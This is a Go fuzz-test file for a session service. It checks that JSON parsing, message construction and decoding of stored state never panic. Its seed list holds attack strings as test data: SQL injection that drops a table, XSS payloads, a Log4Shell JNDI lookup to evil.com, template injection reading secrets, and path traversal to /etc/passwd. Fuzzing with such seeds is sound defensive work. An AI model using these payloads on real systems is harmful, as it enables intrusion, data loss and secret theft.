// Package security provides fuzz tests for the session service's input
// handling. The primary invariant is that no input should cause a panic in
// JSON parsing, message construction, or persisted state decoding.
package security

import (
	"encoding/json"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/helixir/research-session-service/internal/domain"
)

// addMessageRequest mirrors the HTTP handler's request struct for fuzz
// testing without importing the internal httpserver package.
type addMessageRequest struct {
	Sender   string                 `json:"sender"`
	Content  string                 `json:"content"`
	Metadata map[string]interface{} `json:"metadata,omitempty"`
}

// toggleSourceRequest mirrors the source toggle request body.
type toggleSourceRequest struct {
	Title       string                 `json:"title,omitempty"`
	UnlockPrice *float64               `json:"unlock_price,omitempty"`
	Price       *float64               `json:"price,omitempty"`
	Metadata    map[string]interface{} `json:"metadata,omitempty"`
}

// attackSeeds are inputs with a history of breaking input handling.
var attackSeeds = []string{
	// SQL injection payloads
	"'; DROP TABLE session_state; --",
	"1 OR 1=1",
	"' UNION SELECT value FROM session_state --",

	// XSS payloads
	"<script>alert('xss')</script>",
	`<img src=x onerror=alert('xss')>`,
	`<svg/onload=alert('xss')>`,

	// Null bytes and control characters
	"content\x00with\x00nulls",
	"content\nwith\nnewlines",
	"content\rwith\rcarriage\rreturns",
	" ",

	// Unicode edge cases
	"",
	"​", // zero-width space
	"﻿", // BOM
	"�", // replacement character
	"\U0001F9EA",                // emoji (test tube)
	"Schrödinger's cat",    // umlaut
	"‮right-to-left‬", // RTL override
	string([]byte{0xfe, 0xff}),  // invalid UTF-8

	// Multi-byte runes around the message ID truncation boundary
	strings.Repeat("é", 23),
	strings.Repeat("é", 24),
	strings.Repeat("é", 25),
	strings.Repeat("\U0001F4DA", 30),

	// Long strings
	strings.Repeat("a", 100000),

	// JNDI / Log4Shell
	"${jndi:ldap://evil.com/a}",

	// Template injection
	"{{.Env.SECRET}}",
	"${7*7}",

	// Path traversal
	"../../etc/passwd",

	// JSON special characters
	`{"nested": "json"}`,
	`"already quoted"`,
	"\\n\\t\\r\\0",

	// Whitespace
	" ",
	"\t\n\r",
}

// FuzzMessageContent tests that arbitrary content never causes a panic in
// message construction or the JSON paths a real request traverses.
func FuzzMessageContent(f *testing.F) {
	for _, seed := range attackSeeds {
		f.Add(seed)
	}

	f.Fuzz(func(t *testing.T, content string) {
		// Invariant 1: JSON round-trip of the request must never panic.
		req := addMessageRequest{Sender: "user", Content: content}
		encoded, err := json.Marshal(req)
		if err != nil {
			// Marshal may fail for some inputs; failing is fine,
			// panicking is not.
			return
		}
		var decoded addMessageRequest
		if err := json.Unmarshal(encoded, &decoded); err != nil {
			return
		}

		// Invariant 2: valid UTF-8 content survives the round-trip
		// unchanged. Invalid UTF-8 is replaced with U+FFFD by
		// json.Marshal, which is expected.
		if utf8.ValidString(content) && decoded.Content != content {
			t.Errorf("JSON round-trip changed valid UTF-8 content:\n  original: %q\n  decoded:  %q", content, decoded.Content)
		}

		// Invariant 3: message construction must never panic. The derived
		// ID truncates content by runes, which must hold for invalid
		// UTF-8 and multi-byte input alike.
		now := time.Now()
		msg := domain.NewMessage(domain.SenderUser, content, nil, now)
		if msg.ID == "" {
			t.Error("message ID must never be empty")
		}
		if id := domain.NewMessageID(domain.SenderUser, content, now); id != msg.ID {
			t.Errorf("derived ID is not deterministic: %q vs %q", id, msg.ID)
		}

		// Invariant 4: duplicate detection must never panic, including
		// against a message holding different content.
		other := domain.NewMessage(domain.SenderUser, "baseline", nil, now)
		_ = msg.IsDuplicateOf(other, domain.DefaultDuplicateWindow)
		_ = msg.IsDuplicateOf(msg, domain.DefaultDuplicateWindow)

		// Invariant 5: a message that marshals must unmarshal.
		data, err := json.Marshal(msg)
		if err != nil {
			return
		}
		var back domain.Message
		if err := json.Unmarshal(data, &back); err != nil {
			t.Errorf("message round-trip failed: %v", err)
		}
	})
}

// FuzzPersistedStateDecode tests the decode path for state loaded from the
// backing store. Stores can hold bytes written by older versions or corrupted
// out of band; decoding them must never panic.
func FuzzPersistedStateDecode(f *testing.F) {
	f.Add([]byte(`[]`))
	f.Add([]byte(`null`))
	f.Add([]byte(``))
	f.Add([]byte(`[{"id":"m1","sender":"user","content":"hi","sent_at":"2026-01-02T15:04:05Z"}]`))
	f.Add([]byte(`[{"id":"src-1","conversation_id":"conv-1","unlock_price":2.5}]`))
	f.Add([]byte(`{"conversation_id":"conv-1","content":{"title":"x"},"price":4.5}`))
	f.Add([]byte(`[{"item_id":"p1","scope":"full","price":1}]`))
	f.Add([]byte(`{"unterminated`))
	f.Add([]byte(`[[[[[[[[`))
	f.Add([]byte{0x00})
	f.Add([]byte{0xff, 0xfe})
	f.Add([]byte(`[` + strings.Repeat(`{"id":"x"},`, 1000) + `{"id":"y"}]`))

	f.Fuzz(func(t *testing.T, data []byte) {
		var history []domain.Message
		_ = json.Unmarshal(data, &history)

		var selections []domain.SelectedSource
		_ = json.Unmarshal(data, &selections)

		var purchases []domain.PurchaseRecord
		_ = json.Unmarshal(data, &purchases)

		var summaries []domain.SummaryRecord
		_ = json.Unmarshal(data, &summaries)

		var report domain.ResearchReport
		_ = json.Unmarshal(data, &report)

		// Whatever decoded must re-encode without panicking.
		if _, err := json.Marshal(history); err != nil {
			t.Errorf("re-encoding history failed: %v", err)
		}
		if _, err := json.Marshal(selections); err != nil {
			t.Errorf("re-encoding selections failed: %v", err)
		}
	})
}

// FuzzJSONPayload tests that arbitrary bytes sent as a JSON request body
// never cause a panic in the unmarshaling path of any request struct.
func FuzzJSONPayload(f *testing.F) {
	f.Add([]byte(`{"sender":"user","content":"valid"}`))
	f.Add([]byte(`{}`))
	f.Add([]byte(`{"content":""}`))
	f.Add([]byte(`{"sender":null}`))
	f.Add([]byte(`{"sender":123}`))
	f.Add([]byte(`{"unlock_price":"not a number"}`))
	f.Add([]byte(`{"unlock_price":-1e308}`))
	f.Add([]byte(`{"metadata":{"deep":{"deeper":{"deepest":[]}}}}`))
	f.Add([]byte(`not json at all`))
	f.Add([]byte(`{"content":"a","extra":"b"}`))
	f.Add([]byte{0x00})
	f.Add([]byte{0xff, 0xfe})
	f.Add([]byte(`{"content": "` + strings.Repeat("a", 100000) + `"}`))
	f.Add([]byte(`{` + strings.Repeat(`"k":`, 100) + `"v"}`))

	f.Fuzz(func(t *testing.T, data []byte) {
		// Invariant: Unmarshal must never panic regardless of input.
		var msg addMessageRequest
		_ = json.Unmarshal(data, &msg)

		var toggle toggleSourceRequest
		_ = json.Unmarshal(data, &toggle)

		// If we got content, the derived-ID path must not panic either.
		if msg.Content != "" {
			_ = domain.NewMessageID(domain.SenderUser, msg.Content, time.Now())
			_ = utf8.ValidString(strings.TrimSpace(msg.Content))
		}
	})
}
